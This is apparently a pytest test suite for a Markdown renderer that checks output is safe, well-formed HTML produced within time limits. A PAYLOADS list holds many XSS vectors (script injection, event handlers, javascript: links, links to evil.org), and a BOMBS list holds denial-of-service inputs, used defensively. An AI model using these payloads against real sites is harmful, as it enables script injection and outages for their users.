"""Markdown becomes HTML that cannot run anything, within a time that cannot be stretched."""

import time
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from innoshare.choices import Section
from innoshare.render import (
    ID_PREFIX,
    MAX_SENTENCE,
    Rendered,
    habits,
    headings,
    mistakes,
    render,
    render_all,
    sentences,
)
from innoshare.render.proofreading import MAX_LINES

CASES = Path(__file__).parent / "cases" / "cases"


def body_of(name: str) -> str:
    return (CASES / f"{name}.md").read_text(encoding="utf-8").split("\n---\n", 1)[1]


def quiet(key: str) -> None:
    """Nobody watches the progress."""


# --- what comes out -----------------------------------------------------------------------------------------------


def test_sections_become_blocks_in_their_order() -> None:
    rendered = render("Before.\n\n" + body_of("testby-night-buses"))
    assert [block.section for block in rendered.blocks] == [None, *Section]
    assert [block.heading for block in rendered.blocks[1:]] == [section.label for section in Section]
    assert rendered.blocks[2].id == f"{ID_PREFIX}what-was-done"
    assert rendered.blocks[0].html == "<p>Before.</p>"
    assert "<h2" not in rendered.blocks[1].html
    assert f'<h2 id="{ID_PREFIX}results">Results</h2>\n<table>' in rendered.html


def test_headings_in_another_language_are_told_by_their_order() -> None:
    assert [block.section for block in render(body_of("testby-nattbussar")).blocks] == list(Section)
    assert [block.section for block in render("## Läget\n\nx\n\n## Resultat\n\ny").blocks] == [None, None]


def test_what_markdown_offers() -> None:
    html = render("A **b** *c* `d` [e](https://x.org/?a=1&b=2) <https://y.org> z  \nnew line\n\n- x\n    1. y\n\n> q\n"
                  "\n~~~\n<code> & more\n~~~\n\n### H *i*\n\na | b\n--|--\n1 | 2\n\nnote[^n]\n\n"
                  "[^n]: N.").html
    for piece in ("<strong>b</strong>", "<em>c</em>", "<code>d</code>", "<br>", "<li>y</li>", "<blockquote>",
                  "<pre><code>&lt;code&gt; &amp; more\n</code></pre>", f'<h3 id="{ID_PREFIX}h-i">H <em>i</em></h3>',
                  "<td>1</td>", '<a href="https://x.org/?a=1&amp;b=2" rel="nofollow noopener">e</a>',
                  "https://y.org</a>",
                  f'<sup id="{ID_PREFIX}fnref:n">', f'href="#{ID_PREFIX}fn:n"', f'<li id="{ID_PREFIX}fn:n">'):
        assert piece in html


def test_the_outline_of_the_page_stays_whole() -> None:
    html = render("# Top\n\n> ## Quoted\n\n- ## Listed\n\n## Same\n\n## Same\n\nUnder\n---\n").html
    assert html.count("<h2") == 4
    assert "<h1" not in html
    assert html.count("<h3") == 2
    assert f'id="{ID_PREFIX}same_1"' in html


@pytest.mark.parametrize(("address", "href"), [
    ("https://x.org/a(b)?c=d#e", "https://x.org/a(b)?c=d#e"), ("mailto:office@city.org", "mailto:office@city.org"),
    ("/cases/other-case", "/cases/other-case"), ("/cases/other#results", f"/cases/other#{ID_PREFIX}results"),
    ("#results", f"#{ID_PREFIX}results"),
    ("//evil.org", None), ("/admin", None), ("../x.md", None), ("x.md", None), ("/cases/../admin", None), ("", None),
    ("https://good.org@evil.org/", None), ("https://", None), ("http://[x", None), ("HTTPS:evil.org", None),
    ("mailto:a@b.org?bcc=c@d.org", None), ("ftp://x.org", None), ("/cases/x\\y", None),
])
def test_links_lead_where_they_may(address: str, href: str | None) -> None:
    found = Tree.of(render(f"[a]({address})").html).links
    assert found == ([href] if href else [])


def test_only_links_that_leave_say_nofollow() -> None:
    html = render("[a](/cases/b) [c](#d) [e](https://f.org) g[^h]\n\n[^h]: i").html
    assert html.count('rel="nofollow noopener"') == 1


def test_images_show_as_their_description() -> None:
    html = render("See ![a *map* of <b>stops</b>](https://tracker.org/x.png) here").html
    assert "tracker" not in html
    assert "<img" not in html
    assert "map" in render("![a map](x.png)").text


def test_plain_text_keeps_words_apart() -> None:
    text = render("Waiting[^1] fell\nby half.\n\n- one\n- two\n\n| a | b |\n|---|---|\n| c | d |\n\nx  \ny\n\n"
                  "```\nfirst\nsecond\n```\n\n[^1]: In 2019.").text
    assert text.split("\n") == ["Waiting fell by half.", "one", "two", "a b", "c d", "x y", "first", "second",
    "In 2019."]


# --- what must not come out ---------------------------------------------------------------------------------------

PAYLOADS = [
    "<script>alert(1)</script>", "<ScRiPt src=//evil.org/x.js></sCrIpT>", "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)>", "<base href=//evil.org/>",
    "<meta http-equiv=refresh content='0;url=//evil.org'>",
    "<link rel=stylesheet href=//evil.org/x.css>", "<style>*{background:url(//evil.org)}</style>",
    "<form action=//evil.org><input name=p><button>Go</button></form>", "<details open ontoggle=alert(1)>x</details>",
    "<a href='javascript:alert(1)'>x</a>", "<body onload=alert(1)>", "<object data=x></object><embed src=y>",
    "<template><img src=x onerror=alert(1)></template>", "<!-- --><img src=x onerror=alert(1)><!-- -->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>", "<?php echo 1 ?>", "<div style='position:fixed'>x</div>",
    "<video><source onerror=alert(1)></video>", "<x-frame onclick=alert(1)>x</x-frame>",
    "<<img src=x onerror=alert(1)//>",
    "<img src=x onerror=alert(1)//", "&lt;img src=x onerror=alert(1)&gt;", "&#60;img src=x onerror=alert(1)&#62;",
    "[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x](java&#115;cript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x]( javascript:alert(1))", "[x](\x01javascript:alert(1))", "[x](java\tscript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", "[x](vbscript:msgbox(1))",
    "[x](//evil.org)", "[x](\\\\evil.org)", "[x](https:evil.org)", "[x](file:///etc/passwd)", "[x](blob:https://x/y)",
    "[x][r]\n\n[r]: javascript:alert(1)", "[x][r]\n\n[r]: <javascript:alert(1)> 'title'", "<javascript:alert(1)>",
    '[x](https://y.org "<h2>z</h2><img src=x onerror=alert(1)>")', "[x](https://y.org '\" onmouseover=\"alert(1)')",
    '[x][r]\n\n[r]: https://y.org "<h2 id=q>z</h2> <script>alert(1)</script>"', "[x](https://y.org/<h2>z</h2>)",
    "![x](javascript:alert(1))", "![x](https://tracker.org/x.png)", '![x" onerror="alert(1)](y)',
    "![<img src=x onerror=alert(1)>](y)", "![x][r]\n\n[r]: //tracker.org/x.png", "# x {: onclick=alert(1) }",
    "# x {: #location }", "x\n{: style='color:red' }", "# forms", "# <img src=x onerror=alert(1)>", "## location",
    "```html onclick=alert(1)\n<script>alert(1)</script>\n```", "``` { .x #cookie onclick=alert(1) }\nx\n```",
    "``<script>alert(1)</script>``", "a | b\n--|:-:\n<script>alert(1)</script> | [x](javascript:alert(1))",
    "x[^<script>alert(1)</script>]\n\n[^<script>alert(1)</script>]: y",
    "x[^a\" onclick=\"alert(1)]\n\n[^a\" onclick=\"alert(1)]: y",
    "<script>alert(1)</script>\n: <img src=x onerror=alert(1)>", "\x02klzzwxh:0\x03 \x02wzxhzdk:0\x03",
    "<a@b.org onclick=alert(1)>", "<https://x.org/\"onmouseover=\"alert(1)>", "<https://x.org/<script>>",
    "*<img src=x onerror=alert(1)>*", "[<img src=x onerror=alert(1)>](https://x.org)", "\\<script>alert(1)\\</script>",
    "</p></div></body><script>alert(1)</script>", "<p\n onclick=alert(1)>",
    "<a href=\"https://x.org\" target=_blank>x</a>",
]

ALLOWED = {
    "h2": {"id"}, "h3": {"id"}, "h4": {"id"}, "h5": {"id"}, "h6": {"id"}, "p": set(), "ul": set(), "ol": {"start"},
    "li": {"id"}, "dl": set(), "dt": set(), "dd": set(), "blockquote": set(), "pre": set(), "code": set(),
    "strong": set(),
    "em": set(), "a": {"href", "rel", "class"}, "br": set(), "hr": set(), "table": set(), "thead": set(),
    "tbody": set(),
    "tr": set(), "th": set(), "td": set(), "sup": {"id"}, "div": {"class"},
}


class Tree(HTMLParser):
    """Reads HTML as a browser would and keeps what matters: elements, links, and whether all are closed in order."""

    def __init__(self) -> None:
        super().__init__()
        self.links: list[str] = []
        self.open: list[str] = []

    @classmethod
    def of(cls, html: str) -> "Tree":
        tree = cls()
        tree.feed(html)
        tree.close()
        assert not tree.open
        return tree

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in ALLOWED
        for name, value in attrs:
            assert name in ALLOWED[tag]
            assert value is not None
            if name == "id":
                assert value.startswith(ID_PREFIX)
            elif name == "class":
                assert value in ("footnote", "footnote-ref", "footnote-backref")
            elif name == "href":
                self.links.append(value)
                assert urlsplit(value).scheme in ("http", "https", "mailto") or value.startswith(("#", "/cases/"))
        if tag not in ("br", "hr"):
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        assert self.open.pop() == tag

    def handle_comment(self, data: str) -> None:
        raise AssertionError(data)

    handle_decl = handle_pi = unknown_decl = handle_comment


def assert_harmless(rendered: Rendered) -> None:
    """The whole and each block by itself: a page may show blocks one by one."""
    Tree.of(rendered.html)
    for block in rendered.blocks:
        Tree.of(block.html)


@pytest.mark.parametrize("around", ["{}", "## Results\n\n{}\n\n## More\n\nx", "- {}", "> {}", "**{}**",
"[{}](https://x.org)",
                                    "| a |\n|---|\n| {} |", "x[^1]\n\n[^1]: {}", "### {}", "Term\n: {}"])
def test_nothing_that_runs_comes_out(around: str) -> None:
    for payload in PAYLOADS:
        assert_harmless(render(around.replace("{}", payload)))


@given(st.lists(st.sampled_from([*PAYLOADS, "\n\n", "## ", "- ", "> ", "[", "](", ")", "`", "```\n", "|", "**", '"']),
                max_size=12).map("".join))
@settings(max_examples=200, deadline=None)
def test_nothing_that_runs_comes_out_of_any_mixture(body: str) -> None:
    assert_harmless(render(body))


# --- what it may cost ---------------------------------------------------------------------------------------------

BOMBS = {
    "brackets": "[" * 20_000, "brackets in lines": "\n".join(["[" * 4_000] * 5), "half links": "[a](" * 10_000,
    "half links in lines": "\n".join(["[a](" * 1_000] * 10), "half tags": "<a " * 20_000,
    "half tags in lines": "<a \n" * 4_900,
    "list of 300 levels": "\n".join("  " * level + "- x" for level in range(300)),
    "list of 150 levels": "\n".join("    " * level + "- x" for level in range(150)),
    "list in a line": "- " * 2_000 + "x", "quotes": ">" * 300 + " x", "half definitions": "\n".join(
        f"[a{number}]: <http" for number in range(4_900)), "definitions": "\n".join(
        f"[a{number}]: http://x.org" for number in range(4_900)), "half declaration": "<![",
        "half declarations": "<![" * 1_000,
    "half comment": "<!-- -- >", "half comments": "<!-- -- >\n" * 4_900, "divs": "<div>" * 100_000,
    "divs in lines": "<div>\n" * 4_900,
    "headings": "## a\n" * 4_900, "ruled headings": "a\n---\n\n" * 1_600,
    "wide table": "|" * 3_000 + "\n" + "|-" * 1_500
    + "\n" + "|\n" * 4_900, "long table": "a|b\n-|-\n" + "c|d\n" * 4_900, "stars": "*a **b " * 15_000,
    "stars in lines": "*a **b ***c\n" * 4_900, "backticks": "`" * 4_000, "backticks in lines": "`a ``b \n" * 4_900,
    "half fences": "```a\n" * 4_900, "notes": "[^1]\n\n" * 2_400 + "\n[^1]: x",
    "backslashes": "\\" * 4_999, "long": "a " * 100_000, "line": "a" * 5_001, "tabs": "\t" * 300 + "- a",
    "rows without strokes": "a|" * 49 + "a\n" + "-|" * 49 + "-\n" + "a\n" * 4_900,
    "rows after a wide space": "a|" * 49 + "a\n" + "-|" * 49 + "-\n" + "\u00a0\na\n" * 2_400,
    "rules": "- - -\n" * 4_900, "rules in a quote": "> ___\n" * 4_900,
    "rules in a list": "- a\n\n" + "    ***\n" * 4_900,
    "not code": "```a b\n\n" + ("[" * 4_900 + "\n\n") * 20 + "```\n",
    "not code either": "~~~ {.a} b\n\n" + ("[" * 4_900 + "\n\n") * 20 + "~~~\n",
    "backslash before code": ("\\`" + "[" * 4_900 + "`\n\n") * 20,
    "spaces before a table": " " * 60_000 + "x|-", "spaces in a table": "|-" + " " * 60_000 + "x",
    "fences of all lengths": "".join("`" * length + "\n" for length in range(3, 400)) + "\n" * 4_500,
}


@pytest.mark.parametrize("name", BOMBS)
def test_a_bomb_is_refused_before_it_is_rendered(name: str) -> None:
    began = time.perf_counter()
    assert list(mistakes(BOMBS[name]))
    list(habits(BOMBS[name]))
    headings(BOMBS[name])
    assert time.perf_counter() - began < 2, "none takes 0.2 s on a free machine"


def test_bombs_do_not_hide_the_others() -> None:
    bodies = {**BOMBS, "good": body_of("testby-night-buses"), "surrogate": "\ud800"}
    done: list[str] = []
    began = time.perf_counter()
    rendered, refused = render_all(bodies, done.append)
    assert time.perf_counter() - began < 2 * len(BOMBS)
    assert list(rendered) == ["good"]
    assert rendered["good"] == render(bodies["good"])
    assert set(refused) == set(bodies) - {"good"}
    assert done == list(bodies)


@pytest.mark.parametrize("body", [
    "### a\n\n" * 85 + "[TOC]\n\n" * 2_400, "a\n\n" * 2_499, "- - - x\n" * 4_900, "---\n\n" * 100,
    "```\na\n```\n\n" * 1_200, "a|" * 49 + "a\n" + "-|" * 49 + "-\n" + "a\n" * 498,
    "a\n: b\n" * 2_400,
], ids=["contents", "paragraphs", "lists in a line", "rules", "code", "table", "colons"])
def test_what_is_not_refused_is_rendered_in_its_time(body: str) -> None:
    assert not list(mistakes(body))
    assert not render_all({"x": body}, quiet)[1], "none takes 2 s on a free machine"


def test_no_table_of_contents_is_made() -> None:
    assert "<p>[TOC]</p>" in render("[TOC]\n\n## A").html


def test_a_body_that_is_too_long_is_looked_at_no_further() -> None:
    for unit in ("\n", "- a\n", "#a\n", "https://x.org\n", "](", "["):
        body = unit * (140_000 // len(unit))
        began = time.perf_counter()
        assert len(list(mistakes(body))) == 1
        list(habits(body))
        headings(body)
        assert time.perf_counter() - began < 2


@pytest.mark.parametrize("unit", ["a\n=\n", "-\n", "# a\n", "\tx\n", "~~~a b\n"])
def test_short_lines_without_end_are_looked_at_no_further(unit: str) -> None:
    body = unit * (120_000 // len(unit))
    began = time.perf_counter()
    [found] = mistakes(body)
    assert "lines" in found.message
    assert headings(body) == []
    assert time.perf_counter() - began < 0.5
    fits = "a\n" * (MAX_LINES - 1)
    assert not list(mistakes(fits))
    assert list(mistakes(fits + "\n"))


def test_of_an_image_one_thing_is_told() -> None:
    for body in ("![](cars.png)", "![a car](cars.png 'x')", "[![x](a.png)](https://example.org)"):
        assert [found.message for found in mistakes(body)] == ["Images are not shown."]
    assert [found.message for found in mistakes("![x](a.png) and [b](nowhere), [![x](a.png)](nowhere)")] == [
        "Images are not shown.", *["The link to `nowhere` leads nowhere."] * 2]


@pytest.mark.parametrize(("body", "told"), [
    ("```python\n<br>\n```", []), ("``` python \n<br>\n```  ", []), ("~~~.js\n<br>\n~~~", []), ("```a``` b", []),
    ("```\n<br>\n```\u00a0\n```", []), ("``` a b\n<br>\n```", [0]), ("~~~ {.a} b\n<br>\n~~~", [0]),
    ("```\na\n````", [0, 2]), ("a\n```\nb\n~~~", [1, 3]), ("````\n```\n````\n```", [3]),
])
def test_code_is_fenced_as_the_renderer_reads_it(body: str, told: list[int]) -> None:
    assert [found.line for found in mistakes(body)] == told
    if not told:
        assert "<code>" in render(body).html


def test_a_body_that_takes_too_long_is_given_up_and_the_next_one_is_rendered() -> None:
    slow = "\n\n".join(["word " * 900] * 29)  # within every limit, and slower than a thousandth of a second
    refused = render_all({"one": "x", "slow": slow, "two": "y"}, quiet, seconds=0.001)[1]
    assert "longer than 0.001 seconds" in refused["slow"]
    assert not render_all({"one": "x", "slow": slow, "two": "y"}, quiet)[1]


def test_a_thousand_bodies_take_seconds() -> None:
    body = body_of("testby-night-buses")
    began = time.perf_counter()
    rendered, _ = render_all({str(number): body for number in range(1_000)}, quiet)
    assert len(rendered) == 1_000
    assert time.perf_counter() - began < 20, "3 s on a free machine"


@given(st.dictionaries(st.text(max_size=5), st.text(max_size=300), max_size=4))
@settings(max_examples=15, deadline=None)
def test_any_text_is_rendered_or_refused(bodies: dict[str, str]) -> None:
    rendered, refused = render_all(bodies, quiet)
    assert set(rendered) | set(refused) == set(bodies)
    for one in rendered.values():
        assert_harmless(one)


@given(st.text(alphabet="[]()<>*_`!#|-=~:.1 a\n\\&^", max_size=200))
@settings(max_examples=300, deadline=None)
def test_scanning_and_rendering_never_raise(body: str) -> None:
    lines = body.count("\n") + 1
    assert all(0 <= line < lines for line, *_ in [*mistakes(body), *habits(body), *headings(body)])
    if not list(mistakes(body)):
        assert_harmless(render(body))


@given(st.lists(st.sampled_from(["## A", "##B", "### C", "# D", "Words", "E\n---", "F\n===", "", "",
"```\n## G\n```", "- x",
                                 "| a |", "## H ##", "```", "1. y", "---"]), max_size=12).map("\n".join))
@settings(max_examples=500, deadline=None)
def test_the_check_sees_the_sections_that_readers_see(body: str) -> None:
    if not list(mistakes(body)):
        assert [words for _, level, words in headings(body) if level < 3] == [
            block.heading for block in render(body).blocks if block.heading]


# --- what is told -------------------------------------------------------------------------------------------------


def test_code_may_hold_what_text_may_not() -> None:
    assert not list(mistakes("```html\n<div> ![x](y)\n```\n\nTags like `<div>` and ``a ` <b>`` are code.\n\n3<4\n"))
    assert [found.line for found in mistakes("`a` <div> `b`\n\n```\nnever closed")] == [2, 0]


def test_a_text_full_of_one_mistake_is_not_told_without_end() -> None:
    assert len(list(mistakes("<br>\n" * 500))) == 10


@pytest.mark.parametrize(("body", "line"), [
    ("Text:\n- a\n- b", 1), ("- a\n  - b", 1), ("1. a\n   - b", 1), ("Text\na | b\n--|--\nc | d", 1), ("a ~~b~~", 0),
    ("see https://x.org now", 0), ("- [ ] a", 0), ("- [x] a", 0), ("a\\\nb", 0), ("#4 bus", 0),
    ("1) a\n2) b", 0), ("- a\n\n  more\n\n- b", 2), ("- a\n\n    more\n- b", 3), ("- a\n    - b\n      - c", 2),
    ("- a\n1. b", 1), ("a\nb\n---\nc", 2), ("- a\n---\n\nb", 1),
    ("##\u00a0A", 0), ("- a\n\n  ```\n  b\n  ```", 2), ("> [!NOTE]\n> a", 0),
    ("H~2~O", 0), ("see www.x.org", 0), ("HTTPS://x.org", 0), ("10. a\n    b\n\n    c\n11. d", 4),
])
def test_habits_from_elsewhere_are_told(body: str, line: int) -> None:
    assert [found.line for found in habits(body)] == [line]


@pytest.mark.parametrize(("body", "remedy"), [
    ("- a\n  - b", "Indent it by four spaces."), ("- a\n    - b\n      - c", "Indent it by 8 spaces."),
    ("1) a\n2) b", "Write a full stop behind each number: `1.`"), ("see www.x.org.", "`<https://www.x.org>`"),
    (f"see https://x.org/{'a' * 80}, b", f"`<https://x.org/{'a' * 80}>`")])
def test_the_remedy_of_a_habit_can_be_followed(body: str, remedy: str) -> None:
    assert [remedy in found.remedy for found in habits(body)] == [True]


@pytest.mark.parametrize(("body", "place"), [
    ("so ~~a~~ b", "~~"), ("`~~` so ~~a~~ b", "~~a"), ("see `x` and https://x.org", "https"), ("a <b>c", "<b"),
    ("a [b](nowhere)", "nowhere"), ("a ![b](c.png)", "!["), ("a [b](https://x.org/a b)", "https"), ("- [ ] a", "[ ]"),
    ("Überall 🚲 ~~a~~", "~~")])
def test_a_remark_points_at_the_very_sign(body: str, place: str) -> None:
    [found] = [*mistakes(body), *habits(body)]
    assert body[found.column :].startswith(place)


@pytest.mark.parametrize(("address", "remedy"), [
    ("other-city.md", "Write `/cases/other-city`"), ("../cases/other-city.md", "Write `/cases/other-city`"),
    ("www.example.org/a", "Write `https://www.example.org/a`."), ("https://x.org/a b", "Write `%20`"),
    ("<https://x.org/a b>", "Write `%20`"), ("nowhere", "Write a full address")])
def test_a_link_that_leads_nowhere_is_told_where_it_may_lead(address: str, remedy: str) -> None:
    assert [found.remedy.startswith(remedy) for found in mistakes(f"See [this]({address}).")] == [True]
    assert not list(mistakes("See [this](https://x.org/a%20b 'with a title') and [that](https://x.org \"another\")."))


@pytest.mark.parametrize("body", [
    "Text:\n\n- a\n    - b\n\n    c\n\n- d", " - a\n - b", "* a\n * b", "- a\n\ntext\n\n  - b",
    "  1. a\n  2. b\n     - c",
    "in May\n2019. It was good", "It took ~5 to ~10 days", "<https://x.org/~a/~b> [c](https://x.org/~d/~e)",
    "[https://x.org](https://x.org)", "a\n\n* * *\n\nb", "- a\n- b\n---\n", "A\n---\n\nb", "10. a\n11. b\n    - c",
    "1. a\n2. b\n\n    more\n\n3. c", "a | b\n--|--\nc | d", "## X\n- a",
    "a -- b\n\n---\n\nc",
    "[x](https://x.org) <https://y.org> [z][1]\n\n[1]: https://z.org", "`~~x~~ https://x.org`", "line  \nbreak",
    "- a\nlazy\n- b",
    "1. See [x](https://x.org) and\n   more words\n2. b",
])
def test_good_habits_are_left_in_peace(body: str) -> None:
    assert not list(habits(body))


def test_what_most_people_write_is_shown_as_on_github() -> None:
    html = render(" ## A\n\nB \\~ \\$5 \\< C\n: D\n\n   ## E\n\nf").html
    assert html.count("<h2") == 2
    assert "<p>B ~ $5 &lt; C\n: D</p>" in html


# --- sentences ----------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(("text", "expected"), [
    ("It cost 3.5 million. Prof. Smith (e.g. at St. Mary) agreed! Why?", 3),
    ("Am 3. Mai begann es. Es kostete ca. 5 Mio. Euro, z.B. in Wien.", 2),
    ("Det kostade t.ex. 3 kr. per resa. Sedan slutade det.", 2),
    ("Noin 3 milj. euroa käytettiin. Se riitti.", 2),
    ("It had 12. The rest left.", 2), ("1. Count the buses. 2. Ask.", 2), ("First line\nSecond line", 2),
    ("“Yes.” She agreed. (It was late.) All left…", 4), ("In the U.S. City of X it rained.", 1),
    ("费用很高。没有人用！", 2), ("", 0), (" \n\t ", 0), ("No. 5 is red. No. That is all.", 3),
])
def test_sentences_end_where_people_end_them(text: str, expected: int) -> None:
    found = sentences(text)
    assert len(found) == expected, found
    assert "".join("".join(found).split()) == "".join(text.split())


def test_sentences_are_bounded() -> None:
    began = time.perf_counter()
    for text in ("a" * 200_000, "word " * 40_000, "." * 200_000, "a. " * 60_000, "A. " * 60_000, '."' * 100_000,
    "1.1" * 60_000):
        assert max(map(len, sentences(text))) <= MAX_SENTENCE
    assert time.perf_counter() - began < 10
    assert "".join("".join(sentences("word " * 500)).split()) == "word" * 500
